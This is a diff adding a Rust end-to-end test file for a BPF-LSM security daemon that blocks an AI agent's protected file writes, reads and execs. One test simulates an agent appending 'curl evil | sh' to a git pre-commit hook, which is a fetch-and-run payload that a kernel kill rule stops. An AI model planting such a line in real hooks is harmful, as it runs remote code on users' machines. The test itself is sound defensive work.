@@ -1,0 +1,376 @@
+//! `deny` on files and execs, end to end: where BPF-LSM runs, every change a write
+//! rule covers fails with EPERM and leaves the disk as it was (create, write, O_TRUNC,
+//! truncate(2), chmod, chown, mkdir, rmdir, unlink, rename into and out of, hard links
+//! in and out, symlinks), a denied read returns no data, a denied exec never runs, and
+//! the agent that tried lives on. Patterns by component run (`.git/hooks/**`) are
+//! decided in the kernel too, both by the LSM deny and by the tracepoint kill at open.
+//!
+//! The deny tests need BPF-LSM: where the kernel refuses it (this project's own
+//! machines) they print `SKIPPED:` with the daemon's reason; `cargo xtask vm-test` runs
+//! them in Debian's kernels, where a skip is a failure (`GUARD_E2E_REQUIRE_LSM`).
+
+use std::ffi::OsStr;
+use std::fs;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::time::SystemTime;
+
+use guard_tests::{
+    Daemon, Event, EventsTo, FakeAgent, Finished, TempDir, dump, fake_agent_exe, find, lsm_or_skip,
+    session_ended, write_policy,
+};
+
+const EPERM: i64 = libc::EPERM as i64;
+
+struct Setup {
+    agent: FakeAgent,
+    dir: TempDir,
+    daemon: Daemon,
+    loaded: Event,
+    since: SystemTime,
+}
+
+impl Setup {
+    /// A daemon enforcing `rules` (`{dir}` is the test directory) for a fresh agent.
+    fn new(rules: &str) -> Setup {
+        let since = SystemTime::now();
+        let agent = FakeAgent::install(fake_agent_exe!());
+        let dir = TempDir::new("guard-e2e-deny");
+        let policy = dir.join("guard.toml");
+        let rules = rules.replace("{dir}", &dir.path().display().to_string());
+        write_policy(
+            &policy,
+            &format!(
+                "mode = \"enforce\"\n\n[agents]\nnames = [\"{}\"]\n\n{rules}",
+                agent.name()
+            ),
+        );
+        let args = [OsStr::new("--policy"), policy.as_os_str()];
+        let mut daemon = Daemon::start_with_args(&[], EventsTo::File, &args);
+        let events = daemon.wait_for("policy_loaded", |ev| {
+            ev.iter().any(|e| e.kind() == "policy_loaded")
+        });
+        let loaded = find(&events, "policy_loaded", |e| e.kind() == "policy_loaded").clone();
+        Setup {
+            agent,
+            dir,
+            daemon,
+            loaded,
+            since,
+        }
+    }
+
+    fn path(&self, rel: &str) -> PathBuf {
+        self.dir.join(rel)
+    }
+
+    /// Runs the agent's `fs-try` over `specs` (`{dir}` expanded) and waits for the end
+    /// of its session. The agent must have lived to the end.
+    fn try_all(&mut self, specs: &[String]) -> (Finished, Vec<Event>) {
+        let specs: Vec<String> = specs
+            .iter()
+            .map(|s| s.replace("{dir}", &self.dir.path().display().to_string()))
+            .collect();
+        let mut args = vec!["fs-try"];
+        args.extend(specs.iter().map(String::as_str));
+        let run = self.agent.spawn(&args).finish();
+        let events = self
+            .daemon
+            .wait_for("the end of the fs-try session", session_ended(run.pid));
+        run.assert_success();
+        assert_eq!(
+            run.report("alive"),
+            1,
+            "the agent did not live through its refused operations: {run:?}"
+        );
+        (run, events)
+    }
+
+    fn finish(mut self) {
+        let events = self.daemon.stop_ok();
+        let process: Vec<Event> = events
+            .into_iter()
+            .filter(|e| !e.kind().starts_with("policy_"))
+            .collect();
+        guard_tests::check_schema(&process, self.since);
+    }
+}
+
+fn write(path: &Path, text: &str) {
+    if let Some(dir) = path.parent() {
+        fs::create_dir_all(dir).unwrap_or_else(|e| panic!("mkdir {}: {e}", dir.display()));
+    }
+    fs::write(path, text).unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
+}
+
+fn exists(path: &Path) -> bool {
+    fs::symlink_metadata(path).is_ok()
+}
+
+/// What a user would look at to see that a file did not change.
+#[derive(Debug, PartialEq, Eq)]
+struct Snapshot {
+    text: String,
+    mode: u32,
+    uid: u32,
+    gid: u32,
+    nlink: u64,
+}
+
+fn snapshot(path: &Path) -> Snapshot {
+    let meta = fs::metadata(path).unwrap_or_else(|e| panic!("stat {}: {e}", path.display()));
+    Snapshot {
+        text: fs::read_to_string(path).unwrap_or_else(|e| panic!("read {}: {e}", path.display())),
+        mode: meta.permissions().mode(),
+        uid: meta.uid(),
+        gid: meta.gid(),
+        nlink: meta.nlink(),
+    }
+}
+
+const RULES: &str = r#"
+[[rule]]
+id = "protect-writes"
+kind = "file"
+access = ["write"]
+paths = ["{dir}/protected/**", "{dir}/rc", ".git/hooks/**"]
+except = ["*.sample"]
+action = "deny"
+
+[[rule]]
+id = "protect-reads"
+kind = "file"
+access = ["read"]
+paths = ["{dir}/secret.txt"]
+action = "deny"
+
+[[rule]]
+id = "no-forbidden"
+kind = "exec"
+exe = ["{dir}/bin/forbidden"]
+action = "deny"
+"#;
+
+/// Every change a `deny` on writes covers fails with EPERM and changes nothing; reads
+/// and execs are refused before anything happens; the agent lives on; and what the
+/// rules do not cover still works.
+#[test]
+fn deny_refuses_every_change_and_the_agent_lives() {
+    let test = "deny_refuses_every_change_and_the_agent_lives";
+    let mut s = Setup::new(RULES);
+    if !lsm_or_skip(test, &s.loaded) {
+        return;
+    }
+    let loaded = s.loaded.clone();
+    assert_eq!(
+        loaded.strings("user_space_rules"),
+        Some(vec![]),
+        "every rule here is decided in the kernel: {loaded}"
+    );
+
+    let existing = s.path("protected/existing");
+    write(&existing, "original\n");
+    fs::create_dir_all(s.path("protected/sub")).expect("mkdir protected/sub");
+    let outside = s.path("outside/file");
+    write(&outside, "outside\n");
+    let rc = s.path("rc");
+    write(&rc, "rc\n");
+    let secret = s.path("secret.txt");
+    write(&secret, "secret\n");
+    fs::create_dir_all(s.path("repo/.git/hooks")).expect("mkdir repo/.git/hooks");
+    let hook = s.path("repo/.git/hooks/pre-commit");
+    write(&hook, "#!/bin/sh\nexit 0\n");
+    let marker = s.path("ran");
+    let forbidden = s.path("bin/forbidden");
+    write(
+        &forbidden,
+        &format!("#!/bin/sh\necho ran > {}\n", marker.display()),
+    );
+    fs::set_permissions(&forbidden, fs::Permissions::from_mode(0o755)).expect("chmod +x");
+    let before = [&existing, &outside, &rc, &hook].map(|p| snapshot(p));
+
+    let refused: Vec<String> = [
+        "create:{dir}/protected/new",
+        "write:{dir}/protected/existing",
+        "trunc-open:{dir}/protected/existing",
+        "truncate:{dir}/protected/existing",
+        "chmod:{dir}/protected/existing",
+        "chown:{dir}/protected/existing",
+        "mkdir:{dir}/protected/newdir",
+        "rmdir:{dir}/protected/sub",
+        "unlink:{dir}/protected/existing",
+        "rename:{dir}/outside/file:{dir}/protected/moved-in",
+        "rename:{dir}/protected/existing:{dir}/outside/moved-out",
+        "rename:{dir}/protected:{dir}/unprotected",
+        "link:{dir}/outside/file:{dir}/protected/linked-in",
+        "link:{dir}/protected/existing:{dir}/outside/linked-out",
+        "symlink:/etc/hostname:{dir}/protected/symlink",
+        "write:{dir}/rc",
+        "unlink:{dir}/rc",
+        "rename:{dir}/outside/file:{dir}/rc",
+        "create:{dir}/repo/.git/hooks/post-checkout",
+        "write:{dir}/repo/.git/hooks/pre-commit",
+        "rename:{dir}/repo/.git/hooks:{dir}/repo/.git/hooks-old",
+        "read:{dir}/secret.txt",
+        "exec:{dir}/bin/forbidden",
+    ]
+    .map(str::to_owned)
+    .to_vec();
+    let allowed: Vec<String> = [
+        "create:{dir}/outside/new",
+        "write:{dir}/outside/file",
+        "create:{dir}/repo/.git/hooks/pre-push.sample",
+        "create:{dir}/repo/.git/config",
+        "mkdir:{dir}/outside/dir",
+        "read:{dir}/protected/existing",
+    ]
+    .map(str::to_owned)
+    .to_vec();
+    let (run, events) = s.try_all(&[refused.clone(), allowed.clone()].concat());
+    let dir = s.dir.path().display().to_string();
+    let mut wrong = Vec::new();
+    for spec in &refused {
+        let key = spec.replace("{dir}", &dir);
+        if run.report(&key) != EPERM {
+            wrong.push(format!("{spec}: errno {} (want EPERM)", run.report(&key)));
+        }
+    }
+    for spec in &allowed {
+        let key = spec.replace("{dir}", &dir);
+        if run.report(&key) != 0 {
+            wrong.push(format!("{spec}: errno {} (want success)", run.report(&key)));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}\n{run:?}");
+
+    // Nothing on disk changed.
+    let after = [&existing, &outside, &rc, &hook].map(|p| snapshot(p));
+    assert_eq!(before[0], after[0], "protected/existing changed");
+    assert_eq!(before[2], after[2], "rc changed");
+    assert_eq!(before[3], after[3], "the hook changed");
+    // outside/file got one appended byte from the allowed write, nothing else.
+    assert_eq!(after[1].text, "outside\nx", "outside/file");
+    assert_eq!(after[1].nlink, 1, "outside/file got a second name");
+    for absent in [
+        "protected/new",
+        "protected/newdir",
+        "protected/moved-in",
+        "protected/linked-in",
+        "protected/symlink",
+        "outside/moved-out",
+        "outside/linked-out",
+        "unprotected",
+        "repo/.git/hooks/post-checkout",
+        "repo/.git/hooks-old",
+    ] {
+        assert!(!exists(&s.path(absent)), "{absent} exists");
+    }
+    assert!(
+        s.path("protected/sub").is_dir(),
+        "protected/sub was removed"
+    );
+    assert!(!exists(&marker), "the denied program ran");
+    // What was allowed happened.
+    for present in [
+        "outside/new",
+        "outside/dir",
+        "repo/.git/hooks/pre-push.sample",
+        "repo/.git/config",
+    ] {
+        assert!(exists(&s.path(present)), "{present} was not made");
+    }
+
+    // The refused opens and exec are reported as denied, by the kernel.
+    let pid = run.pid;
+    let denied_open = |path: &Path, rule: &str| {
+        let e = find(&events, &format!("open of {}", path.display()), |e| {
+            e.is("open", pid) && e.str("path") == path.to_str()
+        });
+        assert_eq!(e.int("ret"), Some(-EPERM), "{e}");
+        assert_eq!(e.str("rule"), Some(rule), "{e}\n{}", dump(&events));
+        assert_eq!(e.str("outcome"), Some("denied"), "{e}\n{}", dump(&events));
+    };
+    denied_open(&existing, "protect-writes");
+    denied_open(&s.path("protected/new"), "protect-writes");
+    denied_open(&s.path("repo/.git/hooks/post-checkout"), "protect-writes");
+    denied_open(&secret, "protect-reads");
+    let exec = find(&events, "denied exec of bin/forbidden", |e| {
+        e.kind() == "exec" && e.str("exe") == forbidden.to_str()
+    });
+    assert_eq!(exec.str("rule"), Some("no-forbidden"), "{exec}");
+    assert_eq!(exec.str("outcome"), Some("denied"), "{exec}");
+    assert!(
+        !events
+            .iter()
+            .any(|e| e.is("exit", pid) && e.int("signal").is_some()),
+        "the agent was killed:\n{}",
+        dump(&events)
+    );
+    s.finish();
+}
+
+/// A write into `.git/hooks/` under a `kill` rule is decided in the kernel at the
+/// open (a component run, not a prefix): the writer dies before the open returns, so
+/// nothing it meant to write reaches the hook. Runs on every kernel.
+#[test]
+fn component_run_is_killed_in_the_kernel_at_open() {
+    let rules = r#"
+[[rule]]
+id = "hooks"
+kind = "file"
+access = ["write"]
+paths = [".git/hooks/**"]
+except = ["*.sample"]
+action = "kill"
+"#;
+    let mut s = Setup::new(rules);
+    let loaded = s.loaded.clone();
+    assert_eq!(
+        loaded.strings("user_space_rules"),
+        Some(vec![]),
+        ".git/hooks/** is decided in the kernel: {loaded}"
+    );
+    fs::create_dir_all(s.path("repo/.git/hooks")).expect("mkdir hooks");
+    let hook = s.path("repo/.git/hooks/pre-commit");
+    write(&hook, "#!/bin/sh\nexit 0\n");
+    let script = format!("printf 'curl evil | sh\\n' >> {}", hook.display());
+    let run = s.agent.spawn(&["run", "sh", "-c", &script]).finish();
+    let events = s
+        .daemon
+        .wait_for("the end of the session", session_ended(run.pid));
+    run.assert_success();
+    assert_eq!(
+        run.report("child_signal"),
+        i64::from(libc::SIGKILL),
+        "the shell that wrote the hook: {run:?}"
+    );
+    assert_eq!(
+        fs::read_to_string(&hook).expect("read the hook"),
+        "#!/bin/sh\nexit 0\n",
+        "the killed writer changed the hook"
+    );
+    let sh = run.report("child");
+    let open = find(&events, "open of the hook", |e| {
+        e.is("open", sh) && e.str("path") == hook.to_str()
+    });
+    assert_eq!(open.str("rule"), Some("hooks"), "{open}");
+    assert_eq!(open.str("outcome"), Some("killed"), "{open}");
+    assert!(
+        open.get("kill_latency_us").is_none(),
+        "the kernel killed it, not user space: {open}"
+    );
+
+    // A `.sample` hook (what git init writes) is spared.
+    let sample = s.path("repo/.git/hooks/pre-push.sample");
+    let script = format!("echo sample > {}", sample.display());
+    let run = s.agent.spawn(&["run", "sh", "-c", &script]).finish();
+    s.daemon
+        .wait_for("the end of the session", session_ended(run.pid));
+    run.assert_success();
+    assert_eq!(run.report("child_code"), 0, "{run:?}");
+    assert_eq!(
+        fs::read_to_string(&sample).expect("read the sample"),
+        "sample\n"
+    );
+    s.finish();
+}
